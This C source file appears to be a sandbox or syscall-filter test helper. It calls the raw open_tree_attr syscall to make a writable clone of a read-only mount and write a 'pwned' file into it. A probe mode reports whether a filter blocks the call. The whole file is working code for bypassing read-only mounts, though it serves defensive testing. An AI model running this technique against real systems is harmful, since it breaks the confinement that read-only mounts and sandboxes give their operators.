/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Attack: a writable copy of a read-only mount, made with the mount API's
 * newest call (open_tree_attr, Linux 6.15, x86_64 467), called raw:
 *   mount_clone open_tree_attr DIR   clone the mount at DIR without its
 *                                    read-only flag and create DIR/pwned in it
 *   mount_clone probe                open_tree_attr with a bad descriptor:
 *                                    the kernel says EBADF, a filter EPERM
 * Prints one line "ATTACK: RESULT": "wrote DIR/pwned" or "errno N". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NR_OPEN_TREE_ATTR 467 /* newer than Debian 12's headers */
#define OPEN_TREE_CLONE   1
#define AT_RECURSIVE      0x8000
#define MOUNT_ATTR_RDONLY 0x1

struct mount_attr { /* <linux/mount.h>, Linux 5.12 */
    uint64_t attr_set, attr_clr, propagation, userns_fd;
};

int main(int argc, char **argv)
{
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    long fd;
    int file;

    if (argc == 2 && !strcmp(argv[1], "probe")) {
        fd = syscall(NR_OPEN_TREE_ATTR, -1, "x", OPEN_TREE_CLONE, &attr, sizeof attr);
        printf("probe: %s %d\n", fd < 0 ? "errno" : "fd", fd < 0 ? errno : (int)fd);
        return fd < 0;
    }
    if (argc != 3 || strcmp(argv[1], "open_tree_attr")) {
        fprintf(stderr, "usage: mount_clone open_tree_attr DIR | probe\n");
        return 2;
    }
    fd = syscall(NR_OPEN_TREE_ATTR, AT_FDCWD, argv[2], OPEN_TREE_CLONE | AT_RECURSIVE, &attr,
                 sizeof attr);
    if (fd < 0) {
        printf("open_tree_attr: errno %d\n", errno);
        return 1;
    }
    file = openat((int)fd, "pwned", O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (file < 0) {
        printf("open_tree_attr: errno %d\n", errno);
        return 1;
    }
    printf("open_tree_attr: wrote %s/pwned\n", argv[2]);
    return 0;
}
